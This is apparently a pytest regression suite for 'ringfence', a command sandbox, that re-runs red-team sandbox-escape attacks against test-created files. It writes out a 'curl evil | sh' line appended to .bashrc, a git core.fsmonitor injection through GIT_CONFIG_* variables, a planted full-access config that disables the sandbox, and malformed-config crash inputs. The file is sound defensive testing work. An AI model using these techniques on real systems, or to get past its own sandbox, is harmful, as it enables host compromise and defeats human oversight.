"""Attack: a repository's ``.ringfence.toml`` (which may only narrow the policy) reaches
outside the workspace, or past the sandbox altogether.

Found by the red-team pass on policy layering; each test runs the attack for real and checks the
host afterwards, with a control showing the same attack works where the guard does not apply.
The targets are files the test creates: the world's fake home (the workspace's parent) and its
``outside`` directory.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from tests.conftest import World

pytestmark = [pytest.mark.escape,
              pytest.mark.skipif(sys.platform != "linux", reason="the Linux sandbox")]

APPEND = 'echo "curl evil | sh" >> ../.bashrc'


# ---------------------------------------------------------------------------------------------
# protected = ["../x"]

@pytest.mark.parametrize("entry", ["../x", "../../x"])
def test_protected_dotdot_in_project_file_is_refused(world: World, entry: str) -> None:
    """Attack: ``protected = ["../x"]`` in the project's file. ringfence joined it onto the
    workspace and "pinned" every directory between the workspace and that path with a
    read-write bind, the workspace's parent (the home directory) among them: the command
    appended to ``~/.bashrc``. Now the file is refused (one line, exit 125) and nothing runs."""
    bashrc = world.home / ".bashrc"
    before = bashrc.read_text()
    (world.workspace / ".ringfence.toml").write_text(f'[filesystem]\nprotected = ["{entry}"]\n')
    result = world.sandbox(APPEND)
    assert result.returncode == 125, result.stderr
    assert "filesystem.protected" in result.stderr and "'..'" in result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert bashrc.read_text() == before
    assert not (world.home / "x").exists() and not (world.base / "x").exists()
    # control: with the guard out of the way (no project file, no sandbox), the append works
    (world.workspace / ".ringfence.toml").unlink()
    assert world.unsandboxed(APPEND).returncode == 0
    assert bashrc.read_text() != before


def test_protected_dotdot_in_a_library_policy_makes_nothing_writable(in_world: World) -> None:
    """The same attack past the loader (a policy built in code): the planner normalises each
    protected path and pins only directories strictly inside a writable root, so ``../x``
    and ``../../x`` protect nothing and open nothing. (Without that, the append succeeded.)"""
    import ringfence

    world = in_world
    bashrc = world.home / ".bashrc"
    before = bashrc.read_text()
    policy = ringfence.Policy(workspace=str(world.workspace),
                              protected=(".git/hooks", "../x", "../../x", "../../../x"))
    result = ringfence.run(["/bin/sh", "-c", APPEND + " && echo APPENDED"], policy,
                           audit=False)
    assert result.exit_code != 0 and b"APPENDED" not in result.stdout
    assert bashrc.read_text() == before
    assert not (world.home / "x").exists() and not (world.base / "x").exists()
    # control: the same policy without the sandbox
    result = ringfence.run(["/bin/sh", "-c", APPEND], policy.replace(profile="full-access"),
                           audit=False)
    assert result.exit_code == 0 and bashrc.read_text() != before


# ---------------------------------------------------------------------------------------------
# [environment] set in runs without the sandbox

def _fsmonitor_project(world: World) -> Path:
    """A repository whose project file sets ``core.fsmonitor`` through GIT_CONFIG_*: git runs
    the fsmonitor command on ``git status``. It writes a file outside the workspace."""
    world.git_init()
    pwned = world.outside / "pwned-git"
    (world.workspace / "fsm.sh").write_text(f"echo PWNED-ON-HOST > {pwned}\n")
    (world.workspace / ".ringfence.toml").write_text(
        '[environment]\nset = { GIT_CONFIG_COUNT = "1", GIT_CONFIG_KEY_0 = "core.fsmonitor", '
        f'GIT_CONFIG_VALUE_0 = "sh {world.workspace}/fsm.sh #" }}\n')
    return pwned


def test_project_environment_not_applied_in_full_access(world: World) -> None:
    """Attack: the project's ``[environment] set`` applied to full-access runs, so ``git
    status`` (which runs unasked even in ``untrusted`` mode) ran the repository's script on
    the host. The project's settings now apply only inside the sandbox."""
    pwned = _fsmonitor_project(world)
    result = world.run("run", "--profile", "full-access", "--", "git", "status")
    assert result.returncode == 0, result.stderr
    assert not pwned.exists()
    # inside the sandbox the project's settings still apply (they may narrow it)
    result = world.run("run", "--", "/bin/sh", "-c", 'echo "count=$GIT_CONFIG_COUNT"')
    assert "count=1" in result.stdout, result.stderr
    # control: the same environment, set by the user, runs the script
    env = {**os.environ, **world.env, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_COUNT": "1",
           "GIT_CONFIG_KEY_0": "core.fsmonitor",
           "GIT_CONFIG_VALUE_0": f"sh {world.workspace}/fsm.sh #"}
    subprocess.run(["git", "status"], cwd=world.workspace, env=env, capture_output=True,
                   timeout=30, check=False)
    assert pwned.read_text() == "PWNED-ON-HOST\n"


def test_project_environment_not_applied_in_an_escalation_without_sandbox(
        in_world: World) -> None:
    """Attack: the user approves "run ``git status`` without the sandbox" (an escalation, or
    the on-failure rerun); the prompt shows the argv, not the project's environment, which
    made git run the repository's script on the host."""
    import ringfence
    from ringfence.approval.model import Escalation

    world = in_world
    pwned = _fsmonitor_project(world)
    policy = ringfence.resolve_policy(ringfence.Options(workspace=str(world.workspace)))
    esc = Escalation(no_sandbox=True, justification="git needs the host")
    result = ringfence.run(["git", "status"], policy, escalation=esc,
                           approver=lambda request: "once", audit=False)
    assert result.exit_code == 0, result.stderr
    assert not pwned.exists()


# ---------------------------------------------------------------------------------------------
# A trusted workspace's missing .ringfence.toml inside the workspace

def test_trusted_workspace_file_cannot_be_planted(world: World) -> None:
    """Attack: you trust ``~/project/app`` (its file may widen the policy) and run an agent in
    ``~/project``. The command writes ``app/.ringfence.toml`` saying full-access; the next
    run in ``app`` has no sandbox. That path is protected now, existing or not."""
    app = world.workspace / "app"
    app.mkdir()
    config = world.home / ".config" / "ringfence"
    config.mkdir(parents=True)
    (config / "config.toml").write_text(f'[trust]\nworkspaces = ["{app}"]\n')
    plant = 'printf \'profile = "full-access"\\n\' > app/.ringfence.toml'
    extra = world.base / "extra"  # a second writable root: the path comes once per root
    extra.mkdir()
    result = world.sandbox(plant, "--writable", str(extra))
    assert result.returncode != 0, result.stderr
    assert "Read-only" in result.stderr or "Is a directory" in result.stderr, result.stderr
    assert not (app / ".ringfence.toml").exists()  # the placeholder is gone after the run
    assert "full-access" not in world.run("explain", "--", "true", cwd=app).stdout
    # an existing one is read-only
    (app / ".ringfence.toml").write_text('profile = "workspace-write"\n')
    assert world.sandbox(plant).returncode != 0
    assert "full-access" not in (app / ".ringfence.toml").read_text()
    # control: without the sandbox the plant works, and the next run in app is full-access
    (app / ".ringfence.toml").unlink()
    assert world.unsandboxed(plant).returncode == 0
    assert "full-access" in world.run("explain", "--", "true", cwd=app).stdout


# ---------------------------------------------------------------------------------------------
# --workspace ""

def test_empty_workspace_does_not_make_home_writable(world: World) -> None:
    """Attack: ``--workspace "$PROJECT_DIR"`` with the variable unset, started in the home
    directory: the empty value counted as explicit, so the "running in your home" refusal was
    skipped and the home became the writable workspace."""
    bashrc = world.home / ".bashrc"
    before = bashrc.read_text()
    result = world.run("run", "--workspace", "", "--", "/bin/sh", "-c",
                       "echo x >> ~/.bashrc", cwd=world.home)
    assert result.returncode == 125 and "--workspace" in result.stderr
    assert result.stderr.count("\n") == 1
    assert bashrc.read_text() == before
    # control: naming the home explicitly still means it
    result = world.run("run", "--workspace", str(world.home), "--", "/bin/sh", "-c",
                       "echo x >> ~/.bashrc", cwd=world.home)
    assert result.returncode == 0 and bashrc.read_text() != before


# ---------------------------------------------------------------------------------------------
# NUL bytes and deep nesting: one line, exit 125

@pytest.mark.parametrize("text", [
    '[filesystem]\ndeny_read = ["a\\u0000b"]\n',
    '[filesystem]\nprotected = ["a\\u0000b"]\n',
    '[environment]\nset = { X = "a\\u0000b" }\n',
    '[environment]\nset = { "A=B" = "x" }\n',
    '[environment]\nset = { "" = "x" }\n',
    "x = " + "[" * 2000 + "]" * 2000 + "\n",
])
def test_project_file_cannot_crash_ringfence(world: World, text: str) -> None:
    """Attack: a repository's file that makes every ``ringfence run`` in it crash with a
    Python traceback instead of refusing with the clear line and exit 125."""
    (world.workspace / ".ringfence.toml").write_text(text)
    for args in (["run", "--", "true"], ["explain", "--", "true"]):
        result = world.run(*args)
        assert result.returncode == 125, (args, result.stderr)
        assert "Traceback" not in result.stderr and result.stderr.count("\n") == 1
        assert ".ringfence.toml" in result.stderr


# ---------------------------------------------------------------------------------------------
# A project's network entries under "on", then an allowlist on the command line

def test_project_allow_entries_do_not_widen_the_command_lines_allowlist(world: World) -> None:
    """Attack: your config says ``network.mode = "on"``; the project's file adds ``allow =
    ["web.test"]`` and ``allow_local = true`` (accepted: anything narrows "on"). You narrow
    this run to ``--allow-domain other.test``: the project's entries stayed in the list, and
    the command reached a service on your loopback through the proxy."""
    from tests.network.servers import TCPServer
    from tests.network.test_sandbox import FETCH, PY, Net

    net = Net(world)
    server = TCPServer()
    try:
        config = world.home / ".config" / "ringfence"
        config.mkdir(parents=True)
        (config / "config.toml").write_text('[network]\nmode = "on"\n')
        (world.workspace / ".ringfence.toml").write_text(
            '[network]\nallow = ["web.test"]\nallow_local = true\n')
        url = f"http://web.test:{server.port}/"
        result = world.run("run", "--allow-domain", "other.test", "--allow-port",
                           str(server.port), "--", PY, "-c", FETCH, url, timeout=120)
        assert "STATUS 403" in result.stdout, (result.stdout, result.stderr)
        assert server.seen == []
        # control: allowed by the user (a --policy file), the same fetch reaches the server
        result = net.run([PY, "-c", FETCH, url], ["web.test"], [server.port])
        assert "STATUS 200" in result.stdout, (result.stdout, result.stderr)
        assert server.seen
    finally:
        server.close()
